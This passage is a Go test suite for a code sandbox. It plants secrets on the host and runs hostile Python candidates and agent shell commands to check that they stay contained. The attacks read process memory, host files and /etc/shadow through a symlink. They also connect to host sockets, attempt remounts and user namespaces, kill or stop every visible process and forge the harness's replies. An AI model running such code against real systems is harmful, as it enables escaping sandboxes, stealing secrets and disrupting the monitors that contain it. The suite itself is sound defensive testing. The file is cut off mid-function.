package sandboxtest

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/reconstruct/reconstruct/sandbox"
)

// Env is what the suite attacks: one backend's sandboxes, started by the
// backend's own test for each attack.
type Env struct {
	// Kind names the backend in the outcome lines ("docker", "process").
	Kind string
	// Eval starts a sandbox as the workflow's evaluator uses it (candidates
	// run with no workspace in sight).
	Eval func(t *testing.T) sandbox.Sandbox
	// Oracle starts the hidden program's sandbox for the task directory
	// dir, as a run does: on a copy of it (OracleStage).
	Oracle func(t *testing.T, dir string) sandbox.Sandbox
	// Agent, when set, starts the agent's sandbox on the workspace dir (its
	// Exec is the agent's shell tool).
	Agent func(t *testing.T, workspace string) sandbox.Sandbox
	// Generation identifies the harness a sandbox currently runs (a pid, a
	// container id): an attack must not cost the harness.
	Generation func(sandbox.Sandbox) string
}

// Host is the host state the suite plants before attacking: secrets in the
// places a candidate must not reach, all of them readable by any user, so
// that only the sandbox's own walls keep them out.
type Host struct {
	// Dir is a world-readable directory under the system temporary
	// directory holding a bank, another run's workspace and a socket.
	Dir string
	// Bank is a bank file (a stand-in: its content is a secret).
	Bank string
	// OtherRun is another run's journal.
	OtherRun string
	// HomeFile is a file in the user's home directory, removed when the
	// test ends ("" when the home directory cannot be written).
	HomeFile string
	// TaskDir holds hidden.py and heldout.jsonl.
	TaskDir string
	Hidden  string
	Heldout string
	// Socket is a Unix socket listening with mode 0666; accepted gets a
	// value for each connection it takes.
	Socket   string
	accepted chan struct{}
	// Secrets maps each planted secret to what it is.
	Secrets map[string]string
	// Outputs are the observed outputs sent to the evaluator's analyse
	// request before a memory attack; Inputs the inputs of a call before it.
	Outputs []string
	Inputs  []string
	// rootOnly is the start of /etc/shadow when the test can read it (as
	// root): a sandbox must not.
	rootOnly string
}

// OracleStage stages a task directory for its oracle's sandbox as a run
// does (runner.OpenSandboxes): the held-out tests are its secret; the
// stage is removed when the test ends.
func OracleStage(t *testing.T, dir string) *sandbox.Stage {
	t.Helper()
	st, err := sandbox.NewStage(dir, sandbox.StageOptions{Secret: []string{"heldout.jsonl"}})
	if err != nil {
		t.Fatalf("stage %s: %v", dir, err)
	}
	t.Cleanup(func() { st.Remove() })
	return st
}

// token returns prefix + 16 random hex digits: "QZ" tokens are what the
// memory scanners look for.
func token(prefix string) string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		panic(err)
	}
	return prefix + hex.EncodeToString(b[:])
}

// Plant creates the host state of the suite; everything is removed when
// the test ends.
func Plant(t *testing.T) *Host {
	t.Helper()
	base, err := os.MkdirTemp(os.TempDir(), "reconstruct-attack-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	h := &Host{Dir: base, Secrets: map[string]string{}, accepted: make(chan struct{}, 100)}
	write := func(path, what string) string {
		t.Helper()
		secret := token("QZ")
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(secret+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		h.Secrets[secret] = what
		return path
	}
	h.Bank = write(filepath.Join(base, "data", "reconstruct", "bank.db"), "the bank")
	h.OtherRun = write(filepath.Join(base, "runs", "other", "examples.jsonl"), "another run's workspace")
	h.TaskDir = filepath.Join(base, "task")
	h.Hidden = filepath.Join(h.TaskDir, "hidden.py")
	if err := os.MkdirAll(h.TaskDir, 0o755); err != nil {
		t.Fatal(err)
	}
	hiddenSecret := token("QZ")
	h.Secrets[hiddenSecret] = "the hidden program"
	if err := os.WriteFile(h.Hidden, []byte(fmt.Sprintf("# %s\ndef solve(x):\n    return x\n", hiddenSecret)), 0o644); err != nil {
		t.Fatal(err)
	}
	h.Heldout = write(filepath.Join(h.TaskDir, "heldout.jsonl"), "the held-out tests")
	// The held-out tests under other names: a hard link, a copy.
	if err := os.Link(h.Heldout, filepath.Join(h.TaskDir, "tests-copy.jsonl")); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(h.TaskDir, "data"), 0o755); err != nil {
		t.Fatal(err)
	}
	if data, err := os.ReadFile(h.Heldout); err != nil || os.WriteFile(filepath.Join(h.TaskDir, "data", "expected.txt"), data, 0o644) != nil {
		t.Fatalf("copy the held-out tests: %v", err)
	}
	// A run's workspace in the task directory, where the default one is:
	// the candidates and the observed examples.
	write(filepath.Join(h.TaskDir, "runs", "task", "examples.jsonl"), "a workspace in the task directory")
	write(filepath.Join(h.TaskDir, "runs", "task", ".oc_candidates", "iter_001.py"), "a candidate in the task directory's workspace")
	// A link beside the hidden program to a file only root may read, in a
	// place every sandbox shows (its own /etc).
	if err := os.Symlink("/etc/shadow", filepath.Join(h.TaskDir, "leak.py")); err != nil {
		t.Fatal(err)
	}
	if data, err := os.ReadFile("/etc/shadow"); err == nil && len(data) >= 16 {
		h.rootOnly = string(data[:16])
	}
	if home, err := os.UserHomeDir(); err == nil {
		p := filepath.Join(home, "."+filepath.Base(base))
		secret := token("QZ")
		if os.WriteFile(p, []byte(secret+"\n"), 0o644) == nil {
			h.HomeFile = p
			h.Secrets[secret] = "a file in the home directory"
			t.Cleanup(func() { os.Remove(p) })
		}
	}
	for _, d := range []string{base, filepath.Dir(h.Bank), filepath.Dir(filepath.Dir(h.Bank)), filepath.Dir(h.OtherRun), filepath.Dir(filepath.Dir(h.OtherRun))} {
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	h.Socket = filepath.Join(base, "host.sock")
	ln, err := net.Listen("unix", h.Socket)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	if err := os.Chmod(h.Socket, 0o666); err != nil {
		t.Fatal(err)
	}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
			select {
			case h.accepted <- struct{}{}:
			default:
			}
		}
	}()
	shm := token("QZ")
	h.Secrets[shm] = "the host's shared memory"
	plantSharedMemory(t, shm)
	for range 3 {
		in, out := token("QZ"), token("QZ")
		h.Inputs = append(h.Inputs, in)
		h.Outputs = append(h.Outputs, out)
		h.Secrets[in] = "an input of an earlier request"
		h.Secrets[out] = "an observed output"
	}
	return h
}

// leaked lists the secrets found in text, with what they are.
func (h *Host) leaked(text string) []string {
	var out []string
	for s, what := range h.Secrets {
		if strings.Contains(text, s) {
			out = append(out, what)
		}
	}
	return out
}

// Attack is one hostile candidate (or command) and how to judge it.
type Attack struct {
	Name string
	// Finding is the security issue's finding the attack reproduces ("" for
	// the suite's own).
	Finding string
	// Body is the Python body of attack() (indented by four spaces), run
	// when solve is called with "attack"; helpers of prelude are in scope.
	Body func(h *Host) string
	// Where the attack runs: "eval" (a candidate, default), "oracle" (a
	// hidden program in the task directory), "exec" (the agent's shell:
	// Body is then a shell command).
	Where string
	// Timeout of the attack's call (default 30 s: every attack that has a
	// Judge must finish and return what it got).
	Timeout time.Duration
	// Spoils: the attack may spoil the other results of its own batch (it
	// reads its own result pipe back): only its own score suffers.
	Spoils bool
	// Judge returns "" when the attack was contained, else what it got.
	Judge func(h *Host, att sandbox.Outcome) string
}

// candidate is a whole hostile module around an attack's body.
func candidate(body string) string { return strings.Replace(prelude, "{{BODY}}", body, 1) }

// prelude is every hostile candidate: solve echoes its input
// except on "attack". The scanners look for QZ tokens (the pattern does not
// match its own text).
const prelude = `import errno, fcntl, gc, json, os, re, signal, socket, stat, sys, time

PAT = re.compile(rb"QZ[0-9a-f]{16}")


def scan_bytes(b, out):
    for m in PAT.findall(b):
        out.add(m.decode())


def scan_obj(o, out, depth=0, seen=None):
    if seen is None:
        seen = set()
    if id(o) in seen or depth > 5:
        return
    seen.add(id(o))
    try:
        if isinstance(o, str):
            scan_bytes(o.encode("utf-8", "replace"), out)
        elif isinstance(o, (bytes, bytearray, memoryview)):
            scan_bytes(bytes(o), out)
        elif isinstance(o, dict):
            for k, v in list(o.items()):
                scan_obj(k, out, depth + 1, seen)
                scan_obj(v, out, depth + 1, seen)
        elif isinstance(o, (list, tuple, set, frozenset)):
            for v in list(o):
                scan_obj(v, out, depth + 1, seen)
        elif hasattr(o, "__dict__") and not isinstance(o, type):
            scan_obj(vars(o), out, depth + 1, seen)
    except Exception:
        pass


def scan_mem(pid, out):
    try:
        with open("/proc/%s/maps" % pid) as f:
            maps = f.read().splitlines()
        mem = open("/proc/%s/mem" % pid, "rb", 0)
    except OSError as e:
        return "%s: %s" % (pid, type(e).__name__)
    with mem:
        for line in maps:
            parts = line.split()
            if "r" not in parts[1] or "[vvar" in line or "[vsyscall" in line:
                continue
            lo, hi = (int(a, 16) for a in parts[0].split("-"))
            if hi - lo > 1 << 30:
                continue
            try:
                mem.seek(lo)
                scan_bytes(mem.read(hi - lo), out)
            except (OSError, OverflowError, ValueError):
                continue
    return "%s: read" % pid


def read(path, n=1 << 16):
    try:
        with open(path, "rb") as f:
            return f.read(n).decode("utf-8", "replace")
    except Exception as e:
        return "%s: %s" % (type(e).__name__, e)


def walk(top, depth=3):
    out = []
    try:
        names = os.listdir(top)
    except OSError:
        return out
    for name in names[:500]:
        p = os.path.join(top, name)
        out.append(p)
        try:
            if depth > 0 and stat.S_ISDIR(os.lstat(p).st_mode):
                out.extend(walk(p, depth - 1))
        except OSError:
            pass
    return out


def connect_all(paths):
    """The paths of the Unix sockets a connect reaches ("@name": abstract)."""
    hits = []
    for p in paths:
        addr = "\0" + p[1:] if p.startswith("@") else p
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect(addr)
            hits.append(p)
        except OSError:
            pass
        finally:
            s.close()
    return hits


def attack():
{{BODY}}


def solve(x):
    if x != "attack":
        return x
    return attack()
`

func pyList(ss ...string) string {
	b, _ := json.Marshal(ss)
	return string(b)
}

// found judges a scanner that returns what it found: a breach when the
// outcome holds a planted secret.
func found(h *Host, att sandbox.Outcome) string {
	text := string(att.Output) + " " + att.Error
	if l := h.leaked(text); len(l) > 0 {
		return "read " + strings.Join(l, ", ")
	}
	return ""
}

// Attacks is the suite.
var Attacks = []Attack{
	// Finding 1: the observed outputs (sent with the analyse request before
	// the call) and earlier requests' inputs in reach of the candidate.
	{Name: "outputs from the harness's stack frames", Finding: "1", Judge: found, Body: func(*Host) string {
		return `    out = set()
    f = sys._getframe()
    while f is not None:
        scan_obj(dict(f.f_locals), out)
        scan_obj(f.f_globals, out, 3)
        f = f.f_back
    return sorted(out)`
	}},
	{Name: "outputs from every module's globals", Finding: "1", Judge: found, Body: func(*Host) string {
		return `    out = set()
    for m in list(sys.modules.values()):
        scan_obj(getattr(m, "__dict__", {}), out)
    return sorted(out)`
	}},
	{Name: "outputs from the garbage collector's objects", Finding: "1", Judge: found, Body: func(*Host) string {
		return `    out = set()
    for o in gc.get_objects():
        scan_obj(o, out, 4)
    gc.collect()
    for o in gc.get_objects(0) + gc.get_objects(1) + gc.get_objects(2):
        scan_obj(o, out, 4)
    return sorted(out)`
	}},
	{Name: "outputs from /proc/self/mem", Finding: "1", Judge: found, Body: func(*Host) string {
		return `    out = set()
    scan_mem("self", out)
    return sorted(out)`
	}},
	{Name: "outputs from the parent's and other processes' memory", Finding: "1", Judge: found, Body: func(*Host) string {
		return `    out = set()
    notes = []
    me = os.getpid()
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me:
            notes.append(scan_mem(p, out))
            for name in ("environ", "cmdline"):
                scan_bytes(read("/proc/%s/%s" % (p, name)).encode(), out)
    return {"found": sorted(out), "notes": notes}`
	}},
	{Name: "outputs from inherited file descriptors", Finding: "1", Judge: found, Spoils: true, Body: func(*Host) string {
		return `    out = set()
    for fd in range(1024):
        try:
            os.fstat(fd)
            fl = fcntl.fcntl(fd, fcntl.F_GETFL)
            fcntl.fcntl(fd, fcntl.F_SETFL, fl | os.O_NONBLOCK)
            for _ in range(64):
                b = os.read(fd, 1 << 20)
                if not b:
                    break
                scan_bytes(b, out)
        except OSError:
            pass
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = os.open("/proc/self/fd/" + name, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            scan_bytes(os.read(fd, 1 << 20), out)
        except OSError:
            pass
        os.close(fd)
    return sorted(out)`
	}},
	{Name: "outputs from the environment", Finding: "1", Judge: found, Body: func(*Host) string {
		return `    out = set()
    for k, v in os.environ.items():
        scan_bytes((k + "=" + v).encode(), out)
    scan_bytes(read("/proc/self/environ").encode(), out)
    return sorted(out)`
	}},

	// Finding 3: files of the user outside the sandbox's own directory.
	{Name: "read a bank file", Finding: "3", Judge: found, Body: func(h *Host) string {
		return "    return read(" + pyList(h.Bank) + "[0])"
	}},
	{Name: "read another run's workspace", Finding: "3", Judge: found, Body: func(h *Host) string {
		return "    return read(" + pyList(h.OtherRun) + "[0])"
	}},
	{Name: "read a file in the home directory", Finding: "3", Judge: found, Body: func(h *Host) string {
		if h.HomeFile == "" {
			return "    return 'no home file planted'"
		}
		return "    return read(" + pyList(h.HomeFile) + "[0])"
	}},
	{Name: "search the home directories, /var and /tmp", Finding: "3", Judge: found, Body: func(h *Host) string {
		return `    out = set()
    for top in ("/root", "/home", "/var", "/tmp", "/run", "/srv", "/mnt", "/opt", ` + pyList(os.TempDir()) + `[0]):
        for p in walk(top, 4):
            if p.endswith((".db", ".jsonl", ".py")) or "/." in p:
                scan_bytes(read(p).encode(), out)
    return sorted(out)`
	}},

	{Name: "read the host's System V shared memory", Judge: found, Body: func(*Host) string {
		return `    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    out = set()
    try:
        with open("/proc/sysvipc/shm") as f:
            lines = f.read().splitlines()[1:]
    except OSError:
        lines = []
    for line in lines:
        fields = line.split()
        addr = libc.shmat(int(fields[1]), None, 0o10000)
        if addr is None or addr == ctypes.c_void_p(-1).value:
            continue
        scan_bytes(ctypes.string_at(addr, min(int(fields[3]), 1 << 20)), out)
        libc.shmdt(ctypes.c_void_p(addr))
    return sorted(out)`
	}},

	// The task's own files, from a candidate.
	{Name: "read the hidden program by its host path", Judge: found, Body: func(h *Host) string {
		return "    return read(" + pyList(h.Hidden) + "[0])"
	}},
	{Name: "read the held-out tests by their host path", Judge: found, Body: func(h *Host) string {
		return "    return read(" + pyList(h.Heldout) + "[0])"
	}},
	// From the hidden program's own sandbox: it may read its directory,
	// never the held-out tests or the user's files.
	{Name: "a hidden program reads the held-out tests", Where: "oracle", Judge: found, Body: func(h *Host) string {
		return "    return [read('heldout.jsonl'), read(" + pyList(h.Heldout) + "[0]), read(os.path.join(os.path.dirname(__file__), 'heldout.jsonl'))]"
	}},
	{Name: "a hidden program reads the bank", Where: "oracle", Judge: found, Body: func(h *Host) string {
		return "    return read(" + pyList(h.Bank) + "[0])"
	}},
	// Finding 9 of the third security issue: the held-out tests through a
	// hard link (or a copy), the candidates in a workspace inside the task
	// directory; finding 2: a link beside the hidden program to a file
	// only root may read, which the harness read as root.
	{Name: "a hidden program reads every file beside it (links, copies, workspaces)", Finding: "41.2, 41.9", Where: "oracle", Body: func(h *Host) string {
		return `    out = set()
    texts = []
    top = os.path.dirname(os.path.abspath(__file__))
    for p in [top] + walk(top, 8):
        try:
            if os.path.isdir(p):
                continue
            with open(p, "rb") as f:
                data = f.read(1 << 20)
            scan_bytes(data, out)
            texts.append(data[:64].decode("latin-1"))
        except Exception as e:
            texts.append(type(e).__name__)
    for finder in sys.meta_path:
        for name, v in (getattr(finder, "files", None) or {}).items():
            scan_bytes(v[1], out)
            texts.append(v[1][:64].decode("latin-1"))
    return [sorted(out), texts]`
	}, Judge: func(h *Host, att sandbox.Outcome) string {
		// Its own source is the hidden program's to read.
		var leaks []string
		for _, what := range h.leaked(string(att.Output) + " " + att.Error) {
			if what != "the hidden program" {
				leaks = append(leaks, what)
			}
		}
		breach := ""
		if len(leaks) > 0 {
			breach = "read " + strings.Join(leaks, ", ")
		}
		if h.rootOnly != "" && strings.Contains(string(att.Output), h.rootOnly) {
			breach = strings.TrimPrefix(breach+"; read /etc/shadow through a link", "; ")
		}
		return breach
	}},

	// Finding 5: host sockets, /sys, descriptors, privileges.
	{Name: "connect to a host Unix socket (mode 0666)", Finding: "5", Body: func(h *Host) string {
		return `    paths = ` + pyList(h.Socket) + `
    for top in ("/run", "/var/run", "/tmp", ` + pyList(os.TempDir()) + `[0]):
        for p in walk(top, 3):
            try:
                if stat.S_ISSOCK(os.lstat(p).st_mode):
                    paths.append(p)
            except OSError:
                pass
    return connect_all(paths)`
	}, Judge: func(h *Host, att sandbox.Outcome) string {
		var hits []string
		if att.OK() && json.Unmarshal(att.Output, &hits) == nil && len(hits) > 0 {
			return "connected to " + strings.Join(hits, ", ")
		}
		select {
		case <-h.accepted:
			return "connected to " + h.Socket
		default:
		}
		return ""
	}},
	// The Docker sandbox's harness speaks its protocol over a Unix socket
	// (docker/socket.go): a candidate that could connect to it, or to any
	// socket, could forge the harness's side of the protocol. Every socket
	// in sight is tried: those of the whole file system, and those the
	// kernel lists in /proc/net/unix (abstract ones too).
	{Name: "connect to any Unix socket in sight (the harness's among them)", Body: func(*Host) string {
		return `    paths = set()
    def look(top, depth):
        try:
            names = os.listdir(top)
        except OSError:
            return
        for name in names:
            p = os.path.join(top, name)
            try:
                mode = os.lstat(p).st_mode
            except OSError:
                continue
            if stat.S_ISSOCK(mode):
                paths.add(p)
            elif stat.S_ISDIR(mode) and depth > 0 and p not in ("/proc", "/sys"):
                look(p, depth - 1)
    look("/", 8)
    try:
        with open("/proc/net/unix") as f:
            for line in f.read().splitlines()[1:]:
                fields = line.split()
                if len(fields) >= 8:
                    paths.add(fields[7])
    except OSError:
        pass
    return connect_all(sorted(paths))`
	}, Judge: func(h *Host, att sandbox.Outcome) string {
		var hits []string
		if json.Unmarshal(att.Output, &hits) == nil && len(hits) > 0 {
			return "connected to " + strings.Join(hits, ", ")
		}
		return ""
	}},
	{Name: "list the host's network interfaces in /sys", Finding: "5", Body: func(*Host) string {
		return `    try:
        return sorted(os.listdir("/sys/class/net"))
    except OSError as e:
        return []`
	}, Judge: func(_ *Host, att sandbox.Outcome) string {
		var names []string
		if att.OK() && json.Unmarshal(att.Output, &names) == nil {
			for _, n := range names {
				if n != "lo" {
					return "saw " + strings.Join(names, ", ")
				}
			}
		}
		return ""
	}},
	{Name: "open 20,000 files", Finding: "5", Body: func(*Host) string {
		return `    fds = []
    try:
        while len(fds) < 20000:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    n = len(fds)
    for fd in fds:
        os.close(fd)
    return n`
	}, Judge: func(_ *Host, att sandbox.Outcome) string {
		var n int
		if att.OK() && json.Unmarshal(att.Output, &n) == nil && n > 1100 {
			return fmt.Sprintf("opened %d files", n)
		}
		return ""
	}},
	{Name: "gain privileges: no_new_privs unset", Finding: "5", Body: func(*Host) string {
		return `    for line in read("/proc/self/status").splitlines():
        if line.startswith("NoNewPrivs:"):
            return line.split()[1]
    return "unknown"`
	}, Judge: func(_ *Host, att sandbox.Outcome) string {
		if string(att.Output) != `"1"` {
			return "NoNewPrivs is " + string(att.Output)
		}
		return ""
	}},
	{Name: "gain privileges: a set-uid binary on a mount that honours it", Finding: "5", Body: func(*Host) string {
		return `    out = []
    for top in ("/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/lib", "/usr/libexec", "/usr/local/bin"):
        for p in walk(top, 3):
            try:
                st = os.lstat(p)
            except OSError:
                continue
            if stat.S_ISREG(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                if not os.statvfs(p).f_flag & os.ST_NOSUID:
                    out.append(p)
    return sorted(set(out))`
	}, Judge: func(_ *Host, att sandbox.Outcome) string {
		var ps []string
		if att.OK() && json.Unmarshal(att.Output, &ps) == nil && len(ps) > 0 {
			return "usable: " + strings.Join(ps, ", ")
		}
		return ""
	}},

	{Name: "make the filesystem writable (remount, or in a user namespace of its own)", Finding: "5", Body: func(*Host) string {
		return `    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]
    targets = ["/", "/usr", "/etc", os.getcwd()]

    def writable(d):
        p = os.path.join(d, "written-%d" % os.getpid())
        try:
            with open(p, "w") as f:
                f.write("x")
        except OSError:
            return False
        try:
            os.remove(p)
        except OSError:
            pass
        return True

    before = {d: writable(d) for d in targets}
    notes = ["writable before: %s" % [d for d in targets if before[d]]]

    def remount(tag):
        for d in targets:
            if libc.mount(None, d.encode(), None, 32 | 4096, None) != 0:
                notes.append("%s remount %s: errno %d" % (tag, d, ctypes.get_errno()))
        return [d for d in targets if not before[d] and writable(d)]

    gained = remount("in place")
    if gained:
        return "wrote after a remount: %s" % gained
    if libc.unshare(0x10000000 | 0x20000) == 0:
        gained = remount("own user namespace")
        if gained:
            return "wrote in a user namespace of its own: %s" % gained
    else:
        notes.append("unshare: errno %d" % ctypes.get_errno())
    return notes`
	}, Judge: func(_ *Host, att sandbox.Outcome) string {
		if strings.HasPrefix(string(att.Output), `"wrote`) {
			return string(att.Output)
		}
		return ""
	}},

	// Finding 4: the disk behind the working directory.
	{Name: "fill the working directory", Finding: "4", Body: func(*Host) string {
		return `    total, i, err = 0, 0, ""
    try:
        while total < 256 << 20:
            with open("fill-%d" % i, "wb") as f:
                f.write(b"x" * (1 << 20))
            total += 1 << 20
            i += 1
    except OSError as e:
        err = errno.errorcode.get(e.errno, str(e.errno))
    for j in range(i + 1):
        try:
            os.remove("fill-%d" % j)
        except OSError:
            pass
    return {"bytes": total, "error": err}`
	}, Judge: func(_ *Host, att sandbox.Outcome) string {
		var r struct {
			Bytes int64  `json:"bytes"`
			Error string `json:"error"`
		}
		if !att.OK() || json.Unmarshal(att.Output, &r) != nil {
			return fmt.Sprintf("no size bound within the call (%s: %s)", att.Status, att.Error)
		}
		switch r.Error {
		case "ENOSPC", "EDQUOT", "EROFS":
			return ""
		case "":
			return fmt.Sprintf("wrote %d MiB with no error", r.Bytes>>20)
		}
		return fmt.Sprintf("stopped by %s after %d MiB, not by a size bound", r.Error, r.Bytes>>20)
	}},

	// The harness itself.
	{Name: "kill every process it can see", Body: func(*Host) string {
		return `    me = os.getpid()
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me:
            try:
                os.kill(int(p), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.2)
    return "done"`
	}},
	{Name: "stop every process it can see (SIGSTOP)", Body: func(*Host) string {
		return `    me = os.getpid()
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me:
            try:
                os.kill(int(p), signal.SIGSTOP)
            except OSError:
                pass
    return "done"`
	}},
	{Name: "forge the harness's reply on its stdout", Body: func(*Host) string {
		return `    lines = "".join('{"id":%d,"ok":true,"s":"ooo","ns":[0,0,0],"v":["forged","forged","forged"]}\n' % i for i in range(1, 400)).encode()
    targets = ["/proc/1/fd/1", "/proc/%d/fd/1" % os.getppid(), "/dev/stdout", "/proc/self/fd/1"]
    for p in os.listdir("/proc"):
        if p.isdigit():
            targets.append("/proc/%s/fd/1" % p)
    wrote = []
    for p in targets:
        try:
            fd = os.open(p, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, lines)
            os.close(fd)
            wrote.append(p)
        except OSError:
            pass
    for fd in (1, 2):
        try:
            os.write(fd, lines)
        except OSError:
            pass
    return "forged"`
	}},
	{Name: "forge results on its own result pipe, and break out of their message", Spoils: true, Body: func(*Host) string {
		return `    forged = [
        b'{"t":"outs","s":"ooo","ns":[0,0,0],"v":["forged","forged","forged"]}\n',
        b'{"t":"outs","s":"o","ns":[0],"v":["x\\"]}\n{\\"id\\":1,\\"ok\\":true}"]}\n',
        b'{"t":"outs","s":"tc","ns":[-1,1e309],"v":[NaN,{"status":"ok"}]}\n',
        b'{"t":"outs","s":"o","ns":[99999999999999999999999999],"v":[1]}\n',
        b'{"id":2,"ok":true,"s":"o","ns":[0],"v":["forged"]}\n',
    ]
    wrote = 0
    for fd in range(3, 64):
        for msg in forged:
            try:
                os.write(fd, msg)
                wrote += 1
            except OSError:
                pass
    return "forged %d" % wrote`
	}},
}

// Exec attacks: the agent's shell tool reading what the agent must not.
var ExecAttacks = []Attack{
	{Name: "the agent's shell reads the hidden program", Where: "exec", Judge: found, Body: func(h *Host) string { return "cat " + h.Hidden }},
	{Name: "the agent's shell reads the held-out tests", Where: "exec", Judge: found, Body: func(h *Host) string { return "cat " + h.Heldout }},
	{Name: "the agent's shell reads a bank file", Where: "exec", Judge: found, Body: func(h *Host) string { return "cat " + h.Bank }},
	{Name: "the agent's shell reads another run's workspace", Where: "exec", Judge: found, Body: func(h *Host) string { return "cat " + h.OtherRun }},
	{Name: "the agent's shell reads the home directory", Where: "exec", Judge: found, Body: func(h *Host) string {
		if h.HomeFile == "" {
			return "true"
		}
		return "cat " + h.HomeFile
	}},
	{Name: "the agent's shell writes outside the workspace", Where: "exec", Body: func(h *Host) string {
		return "echo QZ0000000000000000 > " + filepath.Join(h.Dir, "written-by-agent") + "; echo done"
	}, Judge: func(h *Host, _ sandbox.Outcome) string {
		if _, err := os.Stat(filepath.Join(h.Dir, "written-by-agent")); err == nil {
			return "wrote " + filepath.Join(h.Dir, "written-by-agent")
		}
		return ""
	}},
}

// Run runs every attack against env, each in fresh sandboxes, and logs one
// outcome line per attack ("attack | backend | contained or BREACHED").
func Run(t *testing.T, env Env) {
	h := Plant(t)
	attacks := append([]Attack(nil), Attacks...)
	if env.Agent != nil {
		attacks = append(attacks, ExecAttacks...)
	}
	for _, a := range attacks {
		t.Run(a.Name, func(t *testing.T) {
			breach := runOne(t, env, h, a)
			verdict := "contained"
			if breach != "" {
				verdict = "BREACHED: " + breach
				t.Errorf("%s", verdict)
			}
			t.Logf("outcome | %s | %s | finding %s | %s", a.Name, env.Kind, orDash(a.Finding), verdict)
		})
	}
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func runOne(t *testing.T, env Env, h *Host, a Attack) string {
	ctx := context.Background()
	timeout := a.Timeout
	if timeout == 0 {
		timeout = 30 * time.Second
	}
	switch a.Where {
	case "exec":
		ws := t.TempDir()
		box := env.Agent(t, ws)
		ex, ok := box.(sandbox.Executor)
		if !ok {
			t.Fatalf("the %s agent sandbox has no Exec", env.Kind)
		}
		res, err := ex.Exec(ctx, sandbox.ExecRequest{Command: a.Body(h), Timeout: 30 * time.Second})
		if err != nil {
			t.Fatalf("Exec: %v", err)
		}
		t.Logf("exec: exit %d: %s", res.ExitCode, res.Output)
		return a.Judge(h, sandbox.Outcome{Status: sandbox.StatusOK, Output: json.RawMessage(mustJSON(res.Output))})
	case "oracle":
		probe := filepath.Join(h.TaskDir, "probe.py")
		if err := os.WriteFile(probe, []byte(candidate(a.Body(h))), 0o644); err != nil {
			t.Fatal(err)
		}
		box := env.Oracle(t, h.TaskDir)
		out, err := box.Call(ctx, sandbox.CallRequest{Program: sandbox.Program{Path: probe, Function: "solve"}, Inputs: raws(`"attack"`), Limits: sandbox.Limits{Timeout: timeout}})
		if err != nil {
			t.Fatalf("Call: %v", err)
		}
		t.Logf("attack: %s %s %s", out[0].Status, clip(string(out[0].Output)), out[0].Error)
		if !out[0].OK() {
			t.Fatalf("the attack did not finish (%s: %s): the suite cannot judge it", out[0].Status, out[0].Error)
		}
		return a.Judge(h, out[0])
	}
	box := env.Eval(t)
	// An earlier call (other inputs) and the analysis of the candidate
	// against the observed outputs, as the workflow does before each call.
	prev, err := box.Call(ctx, sandbox.CallRequest{Program: sandbox.Program{Source: "def f(x):\n    return len(x)\n", Function: "f"}, Inputs: raws(quoteAll(h.Inputs)...)})
	if err != nil || !prev[0].OK() {
		t.Fatalf("earlier call: %v %v", prev, err)
	}
	src := candidate(a.Body(h))
	if _, err := box.Analyse(ctx, sandbox.AnalyseRequest{Source: src, FunctionName: "solve", Inputs: raws(quoteAll(h.Inputs)...), Outputs: raws(quoteAll(h.Outputs)...)}); err != nil {
		t.Fatalf("Analyse: %v", err)
	}
	gen := env.Generation(box)
	// The sandbox idle for a moment, as between a run's batches: the
	// harness forks its spare children, which then live while the attack
	// runs (a spare the attack could kill or stop must not serve the next
	// call).
	time.Sleep(idleBeforeAttack)
	out, err := box.Call(ctx, sandbox.CallRequest{
		Program: sandbox.Program{Source: src, Function: "solve"},
		Inputs:  raws(`"before"`, `"attack"`, `"after"`),
		Limits:  sandbox.Limits{Timeout: timeout},
	})
	if err != nil {
		t.Fatalf("Call: %v", err)
	}
	att := out[1]
	t.Logf("attack: %s %s %s", att.Status, clip(string(att.Output)), att.Error)
	var breach []string
	if !a.Spoils && (string(out[0].Output) != `"before"` || string(out[2].Output) != `"after"`) {
		breach = append(breach, fmt.Sprintf("the batch's other outcomes changed: %+v, %+v", out[0], out[2]))
	}
	if a.Judge != nil {
		if !att.OK() {
			// A scanner that did not finish proves nothing.
			t.Fatalf("the attack did not finish (%s: %s): the suite cannot judge it", att.Status, att.Error)
		}
		if b := a.Judge(h, att); b != "" {
			breach = append(breach, b)
		}
	}
	// The sandbox still works, within a minute, with the same harness.
	cctx, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	next, err := box.Call(cctx, sandbox.CallRequest{Program: sandbox.Program{Source: "def f(x):\n    return x + 1\n", Function: "f"}, Inputs: raws(`41`)})
	switch {
	case err != nil:
		breach = append(breach, "the next call failed: "+err.Error())
	case string(next[0].Output) != "42":
